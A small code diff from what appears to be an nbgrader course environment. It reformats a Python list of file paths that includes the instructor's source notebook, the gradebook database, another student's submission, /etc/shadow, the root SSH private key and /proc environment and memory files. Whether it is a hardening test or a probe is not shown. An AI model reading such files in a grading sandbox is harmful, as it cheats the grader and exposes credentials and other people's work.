@@ -8,7 +8,12 @@ import os
 
 COURSE = "@COURSE@"
 paths = [f"{COURSE}/source/session04/2_two_layer_net.ipynb", f"{COURSE}/gradebook.db", f"{COURSE}/nbgrader_config.py"]
-paths += [f"{COURSE}/submitted/aaa_honest/session04/2_two_layer_net.ipynb", "/etc/passwd", "/etc/shadow", "/root/.bashrc"]
+paths += [
+    f"{COURSE}/submitted/aaa_honest/session04/2_two_layer_net.ipynb",
+    "/etc/passwd",
+    "/etc/shadow",
+    "/root/.bashrc",
+]
 paths += ["/proc/self/environ", "/proc/1/environ", "/proc/self/maps", "/proc/self/mem", "/proc/1/cmdline", "/dev/mem"]
 paths += [os.path.expanduser("~root/.ssh/id_rsa"), "/sys/kernel/notes", "/var/log/dpkg.log", "/zygote/.matplotlib"]
 
